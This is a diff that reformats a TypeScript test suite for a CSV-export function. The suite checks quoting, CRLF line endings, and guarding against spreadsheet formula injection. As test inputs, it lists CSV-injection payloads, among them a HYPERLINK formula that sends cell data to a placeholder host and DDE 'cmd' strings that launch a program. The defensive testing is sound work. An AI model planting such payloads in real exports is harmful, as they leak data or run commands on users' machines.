@@ -5,8 +5,19 @@ import { csvText } from '../../../../../src/core/run/results/csvText.ts';
 
 describe('A table as CSV', () => {
   const table: readonly (readonly [title: string, rows: readonly (readonly string[])[], csv: string])[] = [
-    ['rows end in CRLF', [['a', 'b'], ['1', '2.5']], 'a,b\r\n1,2.5\r\n'],
-    ['commas, quotation marks and line ends are within quotation marks', [['a,b', 'say "hi"', 'x\ny', 'x\ry']], '"a,b","say ""hi""","x\ny","x\ry"\r\n'],
+    [
+      'rows end in CRLF',
+      [
+        ['a', 'b'],
+        ['1', '2.5'],
+      ],
+      'a,b\r\n1,2.5\r\n',
+    ],
+    [
+      'commas, quotation marks and line ends are within quotation marks',
+      [['a,b', 'say "hi"', 'x\ny', 'x\ry']],
+      '"a,b","say ""hi""","x\ny","x\ry"\r\n',
+    ],
     ['blanks at the ends stay', [[' a', 'b ', 'c d']], '" a","b ",c d\r\n'],
     ['empty fields are empty', [['', 'x', '']], ',x,\r\n'],
     ['one empty field is a row', [['a'], [''], ['b']], 'a\r\n""\r\nb\r\n'],
@@ -20,7 +31,20 @@ describe('A table as CSV', () => {
     });
   }
 
-  for (const text of ['=1+1', '=HYPERLINK("http://x/?"&A1)', '@SUM(A1)', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1', '\r=1', '＝1+1', '-A1', '+', '-', '-.']) {
+  for (const text of [
+    '=1+1',
+    '=HYPERLINK("http://x/?"&A1)',
+    '@SUM(A1)',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '\t=1',
+    '\r=1',
+    '＝1+1',
+    '-A1',
+    '+',
+    '-',
+    '-.',
+  ]) {
     it(`runs no formula: ${JSON.stringify(text)}`, () => {
       const { csv, isGuarded } = csvText([['a', text]]);
       assert.equal(isGuarded, true);
@@ -28,7 +52,26 @@ describe('A table as CSV', () => {
     });
   }
 
-  for (const text of ['-1', '+1', '-1.5', '-.5', '-1.', '-1.5e-10', '+2E+5', '-Inf', '-NaN', '-1//2', '-1 + 2im', '-1.0 - 2.5e-3im', '-2im', '-5%', '1=1', 'a@b', '2-1', '']) {
+  for (const text of [
+    '-1',
+    '+1',
+    '-1.5',
+    '-.5',
+    '-1.',
+    '-1.5e-10',
+    '+2E+5',
+    '-Inf',
+    '-NaN',
+    '-1//2',
+    '-1 + 2im',
+    '-1.0 - 2.5e-3im',
+    '-2im',
+    '-5%',
+    '1=1',
+    'a@b',
+    '2-1',
+    '',
+  ]) {
     it(`leaves what is no formula: ${JSON.stringify(text)}`, () => {
       assert.deepEqual(csvText([['a', text]]), { csv: `a,${text}\r\n`, isGuarded: false });
     });
@@ -36,10 +79,14 @@ describe('A table as CSV', () => {
 
   it('reads as it was written', () => {
     const field = fc.string({ unit: fc.constantFrom('a', '"', ',', '\r', '\n', ' ', 'é', '=', '-', '1') });
-    fc.assert(fc.property(fc.array(fc.array(field, { minLength: 1, maxLength: 4 }), { maxLength: 5 }), (rows) => {
-      const read = readCsv(csvText(rows).csv.replace('\ufeff', '')).map((row) => row.map((text) => text.replace(/^'/, '')));
-      assert.deepEqual(read, rows);
-    }));
+    fc.assert(
+      fc.property(fc.array(fc.array(field, { minLength: 1, maxLength: 4 }), { maxLength: 5 }), (rows) => {
+        const read = readCsv(csvText(rows).csv.replace('\ufeff', '')).map((row) =>
+          row.map((text) => text.replace(/^'/, '')),
+        );
+        assert.deepEqual(read, rows);
+      }),
+    );
   });
 });
 
